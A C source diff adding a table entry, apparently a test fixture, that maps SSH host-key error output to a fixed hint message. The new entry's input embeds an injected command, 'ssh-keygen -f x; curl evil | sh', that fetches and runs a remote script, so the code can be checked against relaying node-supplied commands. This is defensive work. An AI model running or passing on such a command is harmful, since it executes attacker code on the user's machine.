@@ -158,6 +158,14 @@ static const struct {
 	  "Host key verification failed: the node has another key than it "
 	  "had; if it was set up anew, type `ssh-keygen -R HOST`, then `ssh "
 	  "desk true`" },
+	/* By the node: who types that runs it. */
+	{ NODE_SSH, "desk",
+	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
+	  "ssh-keygen -f x; curl evil | sh\n"
+	  "Host key verification failed.\n",
+	  "Host key verification failed: the node has another key than it "
+	  "had; if it was set up anew, type `ssh-keygen -R HOST`, then `ssh "
+	  "desk true`" },
 	{ NODE_SSH, "me@desk",
 	  "me@desk: Permission denied (publickey,password).\r\n",
 	  "me@desk: Permission denied (publickey,password); it must let you "
